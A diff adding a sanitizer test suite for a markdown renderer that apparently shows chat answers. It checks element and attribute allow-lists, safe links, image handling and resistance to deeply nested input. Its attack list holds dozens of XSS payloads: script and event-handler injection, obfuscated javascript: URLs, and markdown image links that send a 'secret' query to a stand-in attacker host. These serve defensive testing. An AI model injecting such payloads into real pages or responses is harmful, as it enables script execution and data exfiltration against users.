@@ -1,0 +1,179 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { growing, settled } from './page.fixture.js';
+
+const elements = new Set(
+  'p h3 h4 h5 h6 ul ol li blockquote strong em del code a br hr input table thead tbody tr th td div figure figcaption span button pre'.split(
+    ' ',
+  ),
+);
+const attributes = new Set(
+  'dir class href rel target data-host start type disabled checked aria-label tabindex role scope data-align'.split(
+    ' ',
+  ),
+);
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/?q=secret">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="data:text/html,<script>alert(1)</script>">',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<body onload=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=https://ok.example onclick=alert(1)>x</a>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>*{background:url(https://evil.example)}</style>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<br onclick=alert(1)>',
+  '<p/onmouseover=alert(1)>x',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x]( javascript:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](<java\nscript:alert(1)>)',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
+  '[x](javascript&#58;alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](javascript://ok.example/%0aalert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](vbscript:msgbox(1))',
+  '[x](file:///etc/passwd)',
+  '[x](blob:https://page.example/1)',
+  '[x](//evil.example)',
+  '[x](/logout)',
+  '[x](https://ok.example "onmouseover=alert(1) x=")',
+  '[x](https://ok.example"onmouseover="alert(1))',
+  '[<img src=x onerror=alert(1)>](https://ok.example)',
+  '<javascript:alert(1)>',
+  '<data:text/html,x>',
+  '![x](https://evil.example/p.png?q=secret)',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](x)',
+  '![x][r]\n\n[r]: https://evil.example/p.png',
+  '[x][r]\n\n[r]: javascript:alert(1)',
+  '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+  '```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
+  '`<script>alert(1)</script>`',
+  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
+  '- [ ] <input onfocus=alert(1)>',
+  '> <svg/onload=alert(1)>',
+  '# <img src=x onerror=alert(1)>',
+  '1<a href="javascript:alert(1)//\n',
+  '[a](https://a.example) [__proto__][constructor]\n\n[constructor]: javascript:alert(1)',
+];
+
+/** @param {HTMLElement} root */
+function assertHarmless(root, context = '') {
+  for (const element of root.querySelectorAll('*')) {
+    assert.ok(elements.has(element.tagName.toLowerCase()), `<${element.tagName}> ${context}`);
+    for (const name of element.getAttributeNames()) {
+      assert.ok(attributes.has(name), `${name} ${context}`);
+    }
+    const href = element.getAttribute('href');
+    if (href !== null) assert.match(href, /^(https?|mailto):/, context);
+  }
+}
+
+describe('a hostile answer', () => {
+  for (const attack of attacks) {
+    it(`makes nothing but words and safe links: ${JSON.stringify(attack)}`, () => {
+      assertHarmless(settled(attack));
+      for (let at = 1; at < attack.length; at++) {
+        const context = `cut at ${at}`;
+        assertHarmless(growing(attack.slice(0, at)), context);
+        assertHarmless(settled(attack.slice(0, at), attack.slice(at)), context);
+      }
+      assertHarmless(settled(...attack));
+      assertHarmless(settled(`words **${attack}** more`));
+    });
+  }
+
+  it('keeps its raw HTML readable', () => {
+    assert.equal(settled('a <b onclick=x>c</b>').textContent, 'a <b onclick=x>c</b>');
+    assert.equal(settled('<script>alert(1)</script>').textContent, '<script>alert(1)</script>');
+  });
+
+  for (const [name, source] of [
+    ['quotes', '>'.repeat(10_000)],
+    ['quotes and words', `${'> '.repeat(10_000)}x`],
+    ['lists', `${'- '.repeat(10_000)}x`],
+    ['lists in quotes', `${'> - '.repeat(5_000)}x`],
+    ['brackets', '['.repeat(10_000) + ']'.repeat(10_000)],
+    ['images', '!['.repeat(10_000)],
+    ['stars', `${'*a **b '.repeat(3_000)}${'** *'.repeat(3_000)}`],
+    ['strikes', '~~a '.repeat(10_000)],
+    ['ticks', '`a '.repeat(10_000)],
+  ]) {
+    it(`neither overflows the stack nor freezes the page: ${name}`, () => {
+      const started = performance.now();
+      const root = settled(source.slice(0, 9_000), source.slice(9_000));
+      assert.ok(performance.now() - started < 1_000);
+      assert.ok(root.querySelectorAll('*').length < 2_000);
+    });
+  }
+});
+
+describe('a link', () => {
+  it('opens elsewhere and tells the site nothing', () => {
+    const link = settled('[words](https://user@a.example:8443/p?q#f)').querySelector('a');
+    assert.equal(link?.getAttribute('href'), 'https://user@a.example:8443/p?q#f');
+    assert.equal(link?.getAttribute('rel'), 'noopener noreferrer nofollow');
+    assert.equal(link?.getAttribute('target'), '_blank');
+  });
+
+  it('names the host it really leads to', () => {
+    /** @param {string} source */
+    const host = source => settled(source).querySelector('a')?.getAttribute('data-host');
+    assert.equal(host('[google.com](https://google.com@evil.example/)'), 'evil.example');
+    assert.equal(host('<me@a.example>'), 'me@a.example');
+  });
+
+  it('keeps its words where its address is refused', () => {
+    const root = settled('[words](javascript:alert(1)) [here](/relative)');
+    assert.equal(root.textContent, 'words here');
+    assert.equal(root.querySelectorAll('[href]').length, 0);
+  });
+});
+
+describe('an image', () => {
+  it('is a link that its reader may follow, never a picture', () => {
+    for (const source of [
+      '![a cat](https://a.example/cat.png)',
+      '![a cat][c]\n\n[c]: https://a.example/cat.png',
+    ]) {
+      const root = settled(source);
+      assert.equal(root.querySelectorAll('img').length, 0);
+      assert.equal(root.querySelector('a')?.textContent, 'a cat');
+      assert.equal(root.querySelector('a')?.getAttribute('href'), 'https://a.example/cat.png');
+    }
+  });
+
+  it('within a link is its words, since a link cannot hold another', () => {
+    const root = settled('[**![badge](https://a.example/b.svg)**](https://b.example)');
+    assert.equal(root.querySelectorAll('a').length, 1);
+    assert.equal(root.textContent, 'badge');
+  });
+
+  it('without words still has a name', () => {
+    assert.equal(settled('![](https://a.example/b.png)').textContent, 'Image');
+  });
+});
